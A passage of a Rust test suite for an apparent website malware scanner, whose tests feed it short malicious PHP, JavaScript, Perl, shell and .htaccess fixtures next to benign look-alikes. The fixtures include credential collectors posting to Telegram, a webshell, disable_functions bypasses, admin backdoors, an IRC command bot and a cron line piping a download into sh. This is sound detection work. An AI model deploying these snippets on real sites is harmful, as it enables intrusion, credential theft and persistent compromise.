        assert!(whys("index.php", doorway).contains(&Why::SearchEngineCloaking), "{:?}", whys("index.php", doorway));
        // fresh100's cloaker of a Laravel site: a kept page for crawlers, the site for others.
        let laravel = "<?php function is_search_engine() { foreach (array('Googlebot', 'Bingbot') as $a) {\n\
            if (strpos($_SERVER['HTTP_USER_AGENT'], $a) !== false) return true; } return false; }\n\
            if (is_search_engine()) { include 'readme.html'; } else { include(\"config.php\"); }";
        assert!(whys("index.php", laravel).contains(&Why::SearchEngineCloaking), "{:?}", whys("index.php", laravel));
        // A single-page application's pages, both kept: the snapshot for crawlers.
        let spa = laravel.replace("include(\"config.php\")", "include('app.html')");
        assert!(!whys("index.php", &spa).contains(&Why::SearchEngineCloaking));
        // A theme's header chosen by the browser, nothing for search visitors.
        let header = "<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Googlebot') === false) { include 'parts/header.html'; } echo 'x'; exit;";
        assert!(!whys("index.php", header).contains(&Why::SearchEngineCloaking));
        // Regression: fresh100's `page-info.php` includes one PHP page for crawlers and another
        // for phones and computers.
        let split = "<?php $bots = array('Googlebot', 'Bingbot'); $ua = $_SERVER['HTTP_USER_AGENT'];\n\
            function is_bot($ua, $bots) { foreach ($bots as $b) { if (stripos($ua, $b) !== false) return true; } return false; }\n\
            if (is_bot($ua, $bots)) { include 'page-info1.php'; exit; } elseif (is_mobile($ua)) { include 'page-info2.php'; exit; }\n\
            else { include 'page-info2.php'; exit; }";
        assert!(
            whys("page-info.php", split).contains(&Why::SearchEngineCloaking),
            "{:?}",
            whys("page-info.php", split)
        );
        // The same page for crawlers and people, and a phone's own page, are no cloaking.
        let same = split.replace("page-info1.php", "page-info2.php");
        assert!(!whys("page-info.php", &same).contains(&Why::SearchEngineCloaking));
        let phones =
            split.replace("is_bot($ua, $bots)) { include 'page-info1.php'", "is_mobile($ua)) { include 'page-m.php'");
        assert!(!whys("page-info.php", &phones).contains(&Why::SearchEngineCloaking));
    }

    #[test]
    fn another_sites_text_printed_by_wordpress_entry_is_remote_content() {
        // Regression: fresh86's `wp-blog-header.php` prints a link list fetched from another
        // site before loading WordPress: on every page.
        let header = "<?php\necho file_get_contents(\"https://spam.example/.tmb/b.txt\");\n\
            if (!isset($wp_did_header)) { $wp_did_header = true; require_once __DIR__ . '/wp-load.php'; wp();\n\
            require_once ABSPATH . WPINC . '/template-loader.php'; }";
        assert_eq!(whys("wp-blog-header.php", header), [Why::PrintsRemoteContent]);
        // WordPress's own file fetches nothing.
        let own = "<?php if (!isset($wp_did_header)) { $wp_did_header = true; require_once __DIR__ . '/wp-load.php'; wp();\n\
            require_once ABSPATH . WPINC . '/template-loader.php'; }";
        assert!(whys("wp-blog-header.php", own).is_empty());
    }

    #[test]
    fn a_watchdog_that_sleeps_between_rounds_rewrites_files_forever() {
        // Regression: fresh86's watchdog, run from the command line, lifts no time limit: it
        // sleeps five seconds between putting `index.php` back and making its folder read-only.
        let dog = "<?php $dir = '/home/u/public_html/wp-includes/.tmb'; while (true) {\n\
            if (!file_exists($dir . '/index.php')) { chmod($dir, 0777); copy('index.php', $dir . '/index.php'); chmod($dir, 0555); }\n\
            sleep(5); }";
        assert_eq!(whys("tes.php", dog), [Why::RewritesFilesForever]);
        // A worker that sleeps between jobs and makes nothing read-only.
        let worker = "<?php while (true) { $job = next_job(); file_put_contents('out/' . $job, 'x'); chmod('out/' . $job, 0644); sleep(5); }";
        assert!(!whys("worker.php", worker).contains(&Why::RewritesFilesForever));
    }

    #[test]
    fn a_review_of_the_chat_bot_collector_finds_no_false_alarm() {
        // Regression (review of fresh83's rule): a password only hashed, and fields named like
        // a secret (`passengers`, `passport_number`, `cc_email`), in a form sent to a chat bot.
        let hashed = "<?php $login = $_POST['login']; $password = $_POST['password'];\n\
            $hash = sha1(\"$password\" . SALT);\n\
            file_get_contents('https://api.telegram.org/bot' . TG . '/sendMessage?chat_id=1&text=' . urlencode('Admin login: ' . $login));";
        assert!(whys("a.php", hashed).is_empty(), "{:?}", whys("a.php", hashed));
        for field in ["passengers", "passport_number", "cc_email"] {
            let form = format!(
                "<?php $v = $_POST['{field}'];\n$text = \"*Value:* {{$v}}\";\n\
                 file_get_contents('https://api.telegram.org/bot1:a/sendMessage?' . http_build_query(['text' => $text]));"
            );
            assert!(whys("form.php", &form).is_empty(), "{field}: {:?}", whys("form.php", &form));
        }
        // The request's field pasted straight in, the bot's host in capitals.
        let direct = "<?php $text = \"Password: \" . $_POST['password'];\n\
            file_get_contents('https://API.TELEGRAM.ORG/bot1:a/sendMessage?' . http_build_query(['text' => $text]));";
        assert_eq!(whys("direct.php", direct), [Why::CredentialCollector]);
    }

    #[test]
    fn cpanels_port_in_hosting_code_is_no_fake_login() {
        // Regression (review): a plugin linking the account's cPanel, a WHM module's address, and
        // a pattern's group.
        for ok in [
            "<?php $urls = array('http://' . $host . '/cpanel', 'https://' . $host . ':2083');",
            "<?php function url() { return 'https://' . $this->config['host'] . ':2087'; }",
            "<?php if (preg_match('/:(?:2082|2083)\\b/', $u)) { $cp = true; }",
        ] {
            assert!(whys("a.php", ok).is_empty(), "{ok}: {:?}", whys("a.php", ok));
        }
    }

    #[test]
    fn a_download_into_one_file_is_no_mass_defacer() {
        // Regression (review): an update check whose output goes to `2>&1`, and an installer
        // saving `latest.zip`, in files that walk folders and name `index.php` elsewhere.
        let check = "<?php $out = shell_exec('curl -sS -m 5 https://api.wordpress.org/core/version-check/1.7/ 2>&1');\n\
            foreach (scandir('/home') as $d) { if (file_exists(\"/home/$d/public_html/index.php\")) $s[] = $d; }";
        assert!(!whys("a.php", check).contains(&Why::MassDefacer));
        let installer = "<?php exec('wget -q https://wordpress.org/latest.zip -O latest.zip');\n\
            foreach (glob('*') as $f) { echo $f; } $next = 'index.php';";
        assert!(!whys("a.php", installer).contains(&Why::MassDefacer));
        // The page named in the command itself.
        let inline = "<?php foreach (scandir($root) as $d) { shell_exec(\"curl -s -o $root/$d/index.php https://x.example/t.html\"); }";
        assert!(whys("x.php", inline).contains(&Why::MassDefacer), "{:?}", whys("x.php", inline));
    }

    #[test]
    fn a_single_page_applications_scripts_are_no_cloaking() {
        // Regression (review): the crawlers' snapshot and the service worker served whole.
        let spa = "<?php $ua = $_SERVER['HTTP_USER_AGENT'] ?? '';\n\
            if (preg_match('/googlebot|bingbot/i', $ua)) { readfile(__DIR__ . '/prerendered/index.html'); exit; }\n\
            if (substr($_SERVER['REQUEST_URI'], -6) === '/sw.js') { $js = file_get_contents(__DIR__ . '/sw.js'); echo $js; exit; }";
        assert!(whys("index.php", spa).is_empty(), "{:?}", whys("index.php", spa));
    }

    #[test]
    fn another_sites_text_included_by_an_assembled_address_is_code_from_the_internet() {
        // Regression (review): `include` did not read an address whose host is a variable.
        for src in [
            "<?php $h = $cfg['host']; include \"http://\" . $h . \"/x.txt\";",
            "<?php $h = $cfg['host']; include \"http://$h/x.txt\";",
        ] {
            assert!(whys("a.php", src).contains(&Why::CodeFromInternet), "{src}: {:?}", whys("a.php", src));
        }
        // A paste's raw address ends at `/raw`; the page run from an interpolated string.
        let paste =
            "<?php $f = implode('', array_map('chr', $c)); $x = $f('https://rentry.co/abc123/raw'); eval(\"?>$x\");";
        assert!(whys("a.php", paste).contains(&Why::CodeFromInternet), "{:?}", whys("a.php", paste));
    }

    #[test]
    fn ways_round_disabled_functions_are_found() {
        // Regression: fresh87's and fresh78's `disable_functions` bypasses.
        let preload = "<?php putenv(\"LD_PRELOAD=/var/www/hack.so\"); mail('a@b.c', '', '', '');";
        let shellshock = "<?php function s($cmd) { $tmp = tempnam('.', 'd'); putenv(\"PHP_LOL=() { x; }; $cmd >$tmp 2>&1\"); mail('a@127.0.0.1', '', '', '', '-bv'); }";
        let imap = "<?php $server = \"x -oProxyCommand=echo\\t\" . base64_encode($_GET['cmd']) . \"|base64\\t-d|sh}\";\n\
            imap_open('{' . $server . ':143/imap}INBOX', '', '');";
        let memory = "<?php class Pwn { function run() { $zif_system = $this->get_system($funcs); $this->write($off, $zif_system); } }";
        for src in [preload, shellshock, imap, memory] {
            assert!(whys("x.php", src).contains(&Why::BypassesPhpLimits), "{src}: {:?}", whys("x.php", src));
        }
        // A time zone set for the programs PHP starts, and a mailbox opened.
        let tz = "<?php putenv('TZ=Europe/Oslo'); putenv('LANG=' . $lang); mail($to, $s, $m);";
        let mailbox = "<?php $mbox = imap_open('{imap.example.com:993/imap/ssl}INBOX', $user, $pass);";
        for src in [tz, mailbox] {
            assert!(whys("x.php", src).is_empty(), "{src}: {:?}", whys("x.php", src));
        }
    }

    #[test]
    fn an_administrator_made_for_whoever_opens_the_script_is_a_backdoor() {
        // Regression: fresh87's `wp-links.php` loads WordPress and makes an administrator with a
        // random name and password, printed to whoever opens it.
        let maker = "<?php require_once('wp-blog-header.php');\n\
            $u = substr(md5(rand()), 0, 8); $p = substr(md5(rand()), 0, 8);\n\
            if (!username_exists($u)) { $id = wp_create_user($u, $p, $u . '@x.invalid');\n\
            $o = new WP_User($id); $o->set_role('administrator'); echo $u . ' ' . $p; }";
        assert_eq!(whys("wp-links.php", maker), [Why::AdminBackdoor]);
        // Behind the administrator's own check, or in a function the plugin calls.
        let checked =
            maker.replace("if (!username_exists($u))", "if (current_user_can('create_users') && !username_exists($u))");
        assert!(whys("tools.php", &checked).is_empty(), "{:?}", whys("tools.php", &checked));
        let plugin = "<?php require_once('wp-load.php'); function my_setup() { $id = wp_insert_user(['user_login' => 'shop', 'role' => 'administrator']); }";
        assert!(whys("setup.php", plugin).is_empty());
    }

    #[test]
    fn a_loader_put_in_front_of_files_own_text_is_an_injector() {
        // Regression: fresh86's `insert-cloaking.php` puts an include of the cloaker at the top of
        // every page it is given.
        let injector = "<?php function add($f) { $line = \"<?php include 'cloaker/cloaker.php' ?>\\n\";\n\
            $s = file_get_contents($f); if (strpos($s, 'cloaker.php') === false) file_put_contents($f, $line . $s); }\n\
            foreach ($_POST as $k => $v) { if ($v == 'on') add($k); }";
        assert!(whys("x.php", injector).contains(&Why::InjectsHiddenCode), "{:?}", whys("x.php", injector));
        // A generator writing a new file from a template after its loader.
        let generator = "<?php $tpl = file_get_contents('stub.tpl'); $head = \"<?php require __DIR__ . '/vendor/autoload.php';\\n\";\n\
            file_put_contents($out, $head . $tpl);";
        assert!(whys("build.php", generator).is_empty(), "{:?}", whys("build.php", generator));
    }

    #[test]
    fn a_second_review_of_this_sessions_rules_finds_its_cases() {
        // Regressions from a review: labels in HTML or with an arrow; an Indian order form's
        // `pin_code`; a hotlink guard; a provisioning script run only from the command line; a
        // download whose target is a variable named in the command; a script of its own that
        // loads WordPress and shows a status; the site's own address included; `sleep (5)`; a
        // ProxyCommand in lower case.
        for label in ["<b>OTP:</b> <code>\" . $otp . \"</code>", "OTP - \" . $otp . \"", "OTP ➜ \" . $otp . \""] {
            let src = format!(
                "<?php $otp = $_POST['otp']; $msg = \"{label}\";\n\
                 file_get_contents('https://api.telegram.org/bot1:a/sendMessage?text=' . urlencode($msg));"
            );
            assert_eq!(whys("otp.php", &src), [Why::CredentialCollector], "{label}");
        }
        let order = "<?php $name = $_POST['name']; $text = \"Name: \" . $name . \"\\nPin Code: \" . $_POST['pin_code'];\n\
            file_get_contents('https://api.telegram.org/bot' . TG . '/sendMessage?text=' . urlencode($text));";
        assert!(whys("order.php", order).is_empty(), "{:?}", whys("order.php", order));
        let hotlink = "<?php $ua = $_SERVER['HTTP_USER_AGENT'] ?? ''; $ref = $_SERVER['HTTP_REFERER'] ?? '';\n\
            if (!preg_match('/googlebot|bingbot/i', $ua) && $ref !== '' && parse_url($ref, PHP_URL_HOST) !== $_SERVER['HTTP_HOST']) { include 'hotlink.html'; exit; }";
        assert!(whys("img.php", hotlink).is_empty(), "{:?}", whys("img.php", hotlink));
        let cli = "<?php if (php_sapi_name() !== 'cli') { exit(\"CLI only\\n\"); }\nrequire __DIR__ . '/../wp-load.php';\n\
            if (!username_exists('admin')) { $id = wp_create_user('admin', getenv('WP_ADMIN_PASS'), 'a@x.test'); (new WP_User($id))->set_role('administrator'); }";
        assert!(whys("provision.php", cli).is_empty(), "{:?}", whys("provision.php", cli));
        let named = "<?php foreach (scandir('/home') as $d) { $f = \"/home/$d/public_html/index.php\"; shell_exec(\"curl -s -o '$f' https://x.example/t\"); }";
        assert!(whys("x.php", named).contains(&Why::MassDefacer), "{:?}", whys("x.php", named));
        let status = "<?php require('./wp-blog-header.php');\n$status = file_get_contents('https://status.hosting.example/summary.txt');\n\
            echo '<div>' . esc_html($status) . '</div>';";
        assert!(whys("status.php", status).is_empty(), "{:?}", whys("status.php", status));
        let own = "<?php $site = \"http://\" . $_SERVER['SERVER_NAME']; include($site . \"/header.php\");";
        assert!(!whys("page.php", own).contains(&Why::CodeFromInternet), "{:?}", whys("page.php", own));
        let dog = "<?php while (true) { if (!file_exists('x/index.php')) { copy('index.php', 'x/index.php'); chmod('x', 0555); } sleep (5); }";
        assert_eq!(whys("tes.php", dog), [Why::RewritesFilesForever]);
        let imap = "<?php $s = \"x -oproxycommand=echo\\t\" . base64_encode($_GET['c']) . \"|base64\\t-d|sh}\"; imap_open('{' . $s . ':143/imap}INBOX', '', '');";
        assert!(whys("x.php", imap).contains(&Why::BypassesPhpLimits), "{:?}", whys("x.php", imap));
    }

    #[test]
    fn phishing_kits_parts_learnt_from_fresh93_are_found() {
        // A kit's `.htaccess` that denies anti-virus vendors and anti-phishing services by name;
        // a site's own deny list of spammers' addresses is not one.
        let vendors = "deny from virustotal.com\ndeny from avast.com\ndeny from phishtank.com\ndeny from 10.0.0.1\n";
        assert_eq!(whys(".htaccess", vendors), [Why::PhishingBotFilter]);
        assert!(whys(".htaccess", "deny from 10.0.0.1\ndeny from spam.example\ndeny from virustotal.com\n").is_empty());
        // Regression: another kit's `.htaccess` denies Google's hosts and crawler networks line
        // after line; one of Google's addresses in a spammers' list is a mistake, not a kit.
        let google = "deny from google.com\ndeny from NS2.GOOGLE.COM\ndeny from 64.233.160.0/19\ndeny from 66.249.67\ndeny from 93.173\n";
        assert_eq!(whys(".htaccess", google), [Why::PhishingBotFilter]);
        assert!(whys(".htaccess", "deny from 10.0.0.1\ndeny from 209.85.32.23\ndeny from 203.0.113.9\n").is_empty());
        // Regression: fresh107's Spox_dz filter sends visitors from PhishTank's reports away.
        let referred = "<?php if (isset($_SERVER['HTTP_REFERER'])) { if (parse_url($_SERVER['HTTP_REFERER'], PHP_URL_HOST) == 'phishtank.com') {\n\
            header('Location: http://www.cpanel.com'); die(); } }";
        assert_eq!(whys("Dila_DZ.php", referred), [Why::PhishingBotFilter]);
        // Regression: fresh107's kits hand the visitor to Killbot, or ask ip-api for a hosting
        // or proxy network, then turn them away.
        let killbot = "<?php class Killbot { protected $server = 'https://killbot.org'; }\n$r = file_get_contents('https://killbot.org/api/v2/blocker?ip=' . $_SERVER['REMOTE_ADDR']);\n\
            if (strpos($r, 'block') !== false) { header('HTTP/1.0 404 Not Found'); die(); }";
        assert_eq!(whys("function.php", killbot), [Why::PhishingBotFilter]);
        // Regression: fresh115's `Killbot.php` is the service's client alone: it asks and
        // answers, its caller turns the visitor away.
        let client = "<?php class Killbot { function check() { $r = $this->httpGet('https://killbot.org/api/v1/blocker?ip=' . $ip . '&apikey=' . $this->apikey);\n\
            $j = json_decode($r, true); return $j['data']['block_access'] == true; } }";
        assert_eq!(whys("Killbot.php", client), [Why::PhishingBotFilter]);
        assert!(whys("links.php", "<?php echo '<a href=\"https://killbot.org/\">Killbot</a>';").is_empty());
        let ipapi = "<?php $d = json_decode(file_get_contents(\"https://pro.ip-api.com/json/{$ip}?key=k&fields=status,countryCode,mobile,proxy,hosting\"), true);\n\
            if ($d['hosting'] || $d['proxy']) { header('Location: https://www.google.com/'); die(); }";
        assert_eq!(whys("botnewunti.php", ipapi), [Why::PhishingBotFilter]);
        // A shop that shows the visitor's country from ip-api turns no one away.
        let geo = "<?php $d = json_decode(file_get_contents('http://ip-api.com/json/' . $ip . '?fields=country,proxy,hosting'), true); echo htmlspecialchars($d['country']);";
        assert!(whys("geo.php", geo).is_empty(), "{:?}", whys("geo.php", geo));
        // A page that links to PhishTank for its visitors turns no one away.
        let linked =
            "<?php $r = $_SERVER['HTTP_REFERER']; echo '<a href=\"https://phishtank.com/\">Report phishing</a>';";
        assert!(whys("report.php", linked).is_empty(), "{:?}", whys("report.php", linked));
        // A filter that answers "404" to security services' hosts and goes on (no `exit`).
        let filter = "<?php $h = gethostbyaddr($_SERVER['REMOTE_ADDR']); $bad = array('phishtank', 'netcraft', 'kaspersky');\nforeach ($bad as $w) { if (substr_count($h, $w) > 0) { header('HTTP/1.0 404 Not Found'); } }";
        assert_eq!(whys("antibot.php", filter), [Why::PhishingBotFilter]);
        let shown = filter.replace("header('HTTP/1.0 404 Not Found');", "$seen = true;");
        assert!(whys("antibot.php", &shown).is_empty());
        // What a visitor typed, with the visitor's address, sent to a chat bot; an order form
        // sent there without it is a shop's.
        let bot = "<?php $e = $_POST['eml']; $m = \"Email: $e\\nIP: \" . $_SERVER['REMOTE_ADDR'] . \"\\nUA: \" . $_SERVER['HTTP_USER_AGENT'];\nfile_get_contents('https://api.telegram.org/bot123:abc/sendMessage?chat_id=1&text=' . urlencode($m)); header('Location: next.php');";
        assert_eq!(whys("p4.php", bot), [Why::CredentialCollector]);
        // Regression (review): a shop's lead form sends the address alone, against spam.
        let order = bot.replace(" . \"\\nUA: \" . $_SERVER['HTTP_USER_AGENT']", "");
        assert!(whys("p4.php", &order).is_empty(), "{order}");
        // Regression (review): a maintenance page that lets the scanners in turns none away.
        let admits = "SetEnvIfNoCase User-Agent \"McAfee|Netcraft|Sophos|Kaspersky\" scanner\nOrder deny,allow\nDeny from all\nAllow from env=scanner\n";
        assert!(whys(".htaccess", admits).is_empty(), "{:?}", whys(".htaccess", admits));
    }

    #[test]
    fn an_administrator_made_with_a_fixed_password_on_every_request_is_a_backdoor() {
        // aaronjorbin's "NSA backdoor" plugin: an `init` hook makes `nsa`/`nsa` an administrator.
        let maker = "<?php function mk() { if (get_user_by('email', 'n@example.com')) return; $id = wp_create_user('nsa', 'nsa', 'n@example.com'); $u = new WP_User($id); $u->set_role('administrator'); }\nadd_action('init', 'mk');";
        assert_eq!(whys("nsa.php", maker), [Why::AdminBackdoor]);
        // Regression (review): a theme demo's subscriber, the administrator named elsewhere.
        let demo = maker.replace(
            "$u->set_role('administrator'); }",
            "$u->set_role('subscriber'); }\nfunction x() { return current_user_can('administrator'); }",
        );
        assert!(whys("nsa.php", &demo).is_empty(), "{:?}", whys("nsa.php", &demo));
        // Made on a plugin's activation, or with a password from the form, it is the plugin's.
        assert!(whys("nsa.php", &maker.replace("add_action('init'", "register_activation_hook(__FILE__")).is_empty());
        assert!(whys("nsa.php", &maker.replace("'nsa', 'nsa'", "$_POST['u'], $pass")).is_empty());
    }

    #[test]
    fn a_file_or_folder_the_visitor_names_shown_is_found() {
        // fresh91's reader: `fopen` of the request's path for reading, shown line by line
        // (`?? null` when the field is missing); fresh90's lister of any folder.
        let reader = "<?php $a = $_GET['a'] ?? null; $f = @fopen($a, 'r'); while (!feof($f)) { echo htmlspecialchars(fgets($f)); } fclose($f);";
        assert_eq!(whys("r.php", reader), [Why::FileReadFromInput]);
        let lister = "<?php $d = $_GET['y']; if ($h = opendir($d)) { while (($f = readdir($h)) !== false) { print \"$f<br>\"; } }";
        assert_eq!(whys("y.php", lister), [Why::FileReadFromInput]);
        // Regression (review): a download page that checks the name against its list.
        let listed =
            reader.replace("$f = @fopen", "if (!in_array($a, array('a.pdf', 'b.pdf'), true)) { exit; } $f = @fopen");
        assert!(whys("r.php", &listed).is_empty(), "{:?}", whys("r.php", &listed));
        // A fixed file or folder is the script's own business.
        assert!(whys("r.php", &reader.replace("@fopen($a, 'r')", "@fopen('news.txt', 'r')")).is_empty());
    }

    #[test]
    fn a_script_that_rewrites_the_mail_passwords_is_found() {
        // fresh91's `smtp.php`: cPanel's list of a domain's mail passwords written again with a
        // hash of the intruder's password for every mailbox.
        let reset = "<?php $u = get_current_user(); $d = $_SERVER['SERVER_NAME']; $h = crypt('pw', '$6$x$');\n$p = '/home/' . $u . '/etc/' . $d . '/shadow'; $old = file($p); unlink($p);\nforeach ($old as $l) { $b = explode(':', $l); $f = fopen($p, 'ab'); fwrite($f, $b[0] . ':' . $h . \"\\n\"); }";
        assert_eq!(whys("smtp.php", reset), [Why::RewritesMailPasswords]);
        // Regression (review): a tool reading the system's `/etc/shadow` writes no mailbox's.
        let system = "<?php echo file_get_contents('/etc/shadow'); $h = crypt($_POST['p'], '$6$s$'); file_put_contents('log.txt', $h);";
        assert!(!whys("tools.php", system).contains(&Why::RewritesMailPasswords));
        // A copy of the list kept by a backup script makes no password.
        let copy = reset.replace("crypt('pw', '$6$x$')", "date('Ymd')");
        assert!(!whys("smtp.php", &copy).contains(&Why::RewritesMailPasswords));
        // Regression: fresh102's YAK-obfuscated copy spells every path in escape codes.
        let escaped = reset
            .replace("'/etc/'", "\"\\57\\x65\\x74\\x63\\x2f\"")
            .replace("'/shadow'", "\"\\57\\x73\\x68\\141\\144\\157\\167\"");
        assert!(!escaped.contains("shadow"));
        assert_eq!(whys("smtp.php", &escaped), [Why::RewritesMailPasswords]);
    }

    #[test]
    fn a_script_posting_a_form_to_a_chat_bot_from_the_browser_is_a_collector() {
        // Regression: fresh132's BANPRO kit's `script.js` reads the login form and posts it to
        // Telegram itself, with a key its `sax.php` hands out.
        let js = "async function send() { const k = await fetch('sax.php').then(r => r.json());\n\
                  const usuario = document.getElementById('i1').value; const clave = document.getElementById('i2').value;\n\
                  fetch(`https://api.telegram.org/bot${k.token}/sendMessage`, { method: 'POST', body: JSON.stringify({ chat_id: k.chat_id, text: usuario + ' ' + clave }) }); }";
        assert_eq!(whys("js/script.js", js), [Why::CredentialCollector]);
        let page = format!("<html><body><form><input id='i1'></form><script>{js}</script></body></html>");
        assert!(whys("index.html", &page).contains(&Why::CredentialCollector), "{:?}", whys("index.html", &page));
        // Regression: fresh159's wallet kit posts the form to a Discord webhook.
        let discord = "var hook = \"https://discord.com/api/webhooks/1361504824155308162/qYA8\";\n\
                       form.addEventListener('submit', function () { var d = new FormData(form); fetch(hook, { method: 'POST', body: d }); });";
        assert_eq!(whys("js/form-submission-handler.js", discord), [Why::CredentialCollector]);
        // A page linking to the site's Telegram channel reads no form for it.
        let link =
            "document.getElementById('tg').href = 'https://t.me/shop'; const q = document.getElementById('q').value;";
        assert!(whys("js/contact.js", link).is_empty());
    }

    #[test]
    fn a_program_kept_as_text_or_as_a_picture_is_read() {
        // fresh95's IRC bots: kept as `legend.txt` or `byr.jpg`, started with `perl byr.jpg`.
        let bot = "#!/usr/bin/perl\nuse IO::Socket;\nmy $s = IO::Socket::INET->new(PeerAddr => 'irc.example.net', PeerPort => 6667);\nprint $s \"NICK bot\\r\\nUSER b b b b\\r\\nJOIN #c\\r\\n\";\nwhile (<$s>) { if (/PRIVMSG #c :!sh (.*)/) { print $s \"PRIVMSG #c :\" . `$1`; } }\n";
        // (Or under a C source's name: fresh161's `Backdoor.Perl.Small.c`.)
        assert!(sniffed("Backdoor.Perl.Small.c", false));
        for name in ["legend.txt", "byr.jpg", "Backdoor.Perl.Small.c"] {
            assert!(worth_reading(name, bot.as_bytes()));
            assert!(whys(name, bot).contains(&Why::NetworkBot), "{name}: {:?}", whys(name, bot));
        }
        // Regression (review): a PHP shell under a picture's name with a `#!` line on top is
        // still read as the PHP it holds.
        let shell = "#!/bin/sh\n<?php if (isset($_REQUEST['c'])) { system($_REQUEST['c']); } ?>";
        assert!(whys("logo.jpg", shell).contains(&Why::ShellFromInput), "{:?}", whys("logo.jpg", shell));
        // Notes and pictures are not read otherwise.
        assert!(!worth_reading("readme.txt", b"=== Plugin ===\nContributors: me\n"));
        assert!(whys("readme.txt", "use IO::Socket; NICK JOIN PRIVMSG").is_empty());
        // fresh95's `non.txt`: the collection's comment block first, then the `#!` line; a
        // byte-order mark before it.
        let signed = format!("####\n# Author : Swan\n# Name : Perl Bots\n####\n\n{bot}");
        let marked = format!("\u{feff}{bot}");
        for text in [&signed, &marked] {
            assert!(worth_reading("non.txt", text.as_bytes()));
            assert!(whys("non.txt", text).contains(&Why::NetworkBot), "{:?}", whys("non.txt", text));
        }
        // A robots file's comments end in its rules, not a program.
        assert!(!worth_reading("robots.txt", b"# robots.txt\n# for all\nUser-agent: *\n"));
    }

    #[test]
    fn php_under_a_scripts_name_and_a_traffic_system_client_are_found() {
        // fresh156's Parrot TDS proxy named `hidpi.js`; a Keitaro block in front of a home page.
        let proxy = "<?php\n/* APPLICATION ENVIRONMENT */\n$u = 'https://tds.example.net/' . $_SERVER['REQUEST_URI']; echo file_get_contents($u);";
        assert!(
            whys("plugins/hidpi/hidpi.js", proxy).contains(&Why::PhpUnderDataName),
            "{:?}",
            whys("hidpi.js", proxy)
        );
        assert!(whys("js/app.js", "function a() { return '<?php'; }").is_empty());
        let keitaro = "<?php require_once dirname(__FILE__) . '/kclient.php';\n$client = new KClient('https://source-channel.space/', 'RW3sN6SdTsKd8w7b');\n\
                       $client->sendAllParams(); $client->forceRedirectOffer(); ?>\n<html><body>Bills</body></html>";
        assert_eq!(whys("index.php", keitaro), [Why::TrafficRedirector]);
        // fresh156's book doorway: its random numbers seeded with the host's name.
        let doorway = "<?php srand(crc32($_SERVER['HTTP_HOST'])); require_once $_SERVER['DOCUMENT_ROOT'] . '/data/conf.php';\n$words = file('data/keys.txt'); echo $words[rand(0, count($words) - 1)];";
        assert_eq!(whys("index.php", doorway), [Why::KeywordDoorway]);
        assert!(whys("index.php", "<?php mt_srand(crc32(microtime())); echo rand();").is_empty());
    }

    #[test]
    fn a_packed_shell_script_without_its_first_line_is_read() {
        // fresh147's extensionless `1`: a base64 text, then piped into a shell.
        let packed = format!("miuae=\"{}\"\necho $miuae | base64 -d | sh\n", "ZGlybnlh".repeat(60));
        assert!(worth_reading("1", packed.as_bytes()));
        assert_eq!(whys("1", &packed), [Why::EvalOfDecoded]);
        // A settings file of a tool holding a key.
        let key = format!("KEY=\"{}\"\n", "QUJD".repeat(80));
        assert!(whys("settings", &key).is_empty());
    }

    #[test]
    fn server_settings_or_a_page_kept_as_text_are_read() {
        // fresh148's `ht.txt` locker, `301.txt` and `wan.txt` defacement.
        let locker = "<FilesMatch \"\\.(php|ph*|Ph*|PH*|pH*)$\">\n    Deny from all\n</FilesMatch>\n<FilesMatch \"^(madog.php|myhome.php|index.html)$\">\n    Allow from all\n</FilesMatch>\n";
        assert!(worth_reading("ht.txt", locker.as_bytes()));
        assert_eq!(whys("ht.txt", locker), [Why::PhpLockdown]);
        let deface =
            "\n<title>Im Patch Your System XD</title>\n<center>\n<pre>\n</> Hacked By Mr.W4W4N </>\n</pre></center>\n";
        assert!(worth_reading("wan.txt", deface.as_bytes()));
        assert_eq!(whys("wan.txt", deface), [Why::Defacement]);
        // Joomla's own `htaccess.txt` and a saved page of a manual say nothing.
        let joomla = "##\n# @package Joomla\n##\nOptions +FollowSymlinks\nRewriteEngine On\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule .* index.php [L]\n";
        assert!(whys("htaccess.txt", joomla).is_empty(), "{:?}", whys("htaccess.txt", joomla));
        let manual =
            "<!DOCTYPE html><html><head><title>Installation</title></head><body><p>Upload the files.</p></body></html>";
        assert!(whys("install.txt", manual).is_empty());
        // fresh155's `index` without an ending: a page in place of the home page.
        assert!(worth_reading("index", deface.as_bytes()));
        assert_eq!(whys("index", deface), [Why::Defacement]);
        assert!(whys("README", manual).is_empty());
        // Regression: fresh169's `index.txt` holds the claim alone.
        let note = "Hacked By Mr.7Mind ft chmod0777 -RibelCyberTeam\n";
        assert!(worth_reading("index.txt", note.as_bytes()));
        assert_eq!(whys("index.txt", note), [Why::Defacement]);
        // A changelog telling of a past break-in, at length.
        let log =
            format!("1.2.1: the demo site was hacked by a bot; we changed the passwords.\n{}", "- fixes\n".repeat(200));
        assert!(whys("changelog.txt", &log).is_empty());
    }

    #[test]
    fn a_cron_line_or_an_ssh_key_kept_as_text_is_read() {
        // fresh140's `crontab.txt` (a miner's line put back every 15 minutes) and fresh141's
        // `My_ssh.txt` (an `echo` of the intruder's key into `authorized_keys`).
        let cron = "*/15 * * * * (curl -fsSL https://pastebin.com/raw/wDBa7jCQ||wget -q -O- https://pastebin.com/raw/wDBa7jCQ)|sh\n";
        assert!(worth_reading("crontab.txt", cron.as_bytes()));
        assert_eq!(whys("crontab.txt", cron), [Why::DownloadsProgram]);
        let key = format!(
            "echo \"\"\"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ{} root@kali\"\"\" > authorized_keys\n",
            "x".repeat(600)
        );
        assert!(worth_reading("My_ssh.txt", key.as_bytes()));
        assert_eq!(whys("My_ssh.txt", &key), [Why::AddsSshKey]);
        // A cron line that only fetches a feed, a key alone, a note about cron: nothing.
        assert!(whys("crontab.txt", "0 3 * * * wget -q -O /tmp/feed.xml https://example.org/feed\n").is_empty());
        assert!(whys("id_rsa.txt", &format!("ssh-rsa AAAAB3Nza{} me@laptop\n", "y".repeat(300))).is_empty());
        assert!(!worth_reading("notes.txt", b"Run this every 5 minutes from cron.\n"));
    }

    #[test]
    fn a_program_under_a_php_name_is_read_as_the_program() {
        // fresh95's `magscan.txt`, scored under a PHP name (it holds a line of PHP in a Perl
        // string): a Perl IRC bot; PHP's own `#!` line leaves a script PHP.
